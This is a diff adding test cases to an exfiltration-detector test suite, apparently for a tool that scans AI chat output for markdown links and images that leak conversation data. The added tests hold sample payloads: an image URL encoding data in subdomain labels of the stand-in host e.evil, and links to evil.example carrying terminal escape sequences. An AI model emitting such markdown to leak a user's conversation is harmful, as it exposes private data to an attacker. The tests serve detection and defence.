@@ -115,6 +115,17 @@ describe('exfiltration detector', () => {
     expect(exfil.detect(text, withConversation)).toEqual([expect.objectContaining({ detector: 'exfiltration', type, score: 0.95, evidence: 'e.evil' })]);
   });
 
+  it('data in subdomain labels counts, and evidence never names them', () => {
+    const [f] = exfil.detect('![x](https://zx-4471-qq.bluebird-migration.e.evil/p.png)', withConversation);
+    expect(f).toMatchObject({ type: 'exfiltration_conversation', evidence: 'e.evil' });
+  });
+
+  it('a terminal sequence in a defanged label does not survive', () => {
+    expect(transformed('[red \u001bMtext](https://evil.example/)')).toBe('red Mtext (`https://evil.example/`)');
+    // A sequence that overlaps the link's own brackets: neither rewrite is exact, so the union goes.
+    expect(transformed('[red \u001b[31mtext](https://evil.example/) ok')).toBe('[red  ok');
+  });
+
   it('a URL without data, or with too little of the conversation, is not', () => {
     expect(exfil.detect('[docs](https://docs.acme.io/guide/start) https://e.evil/?q=order', withConversation)).toEqual([]);
   });
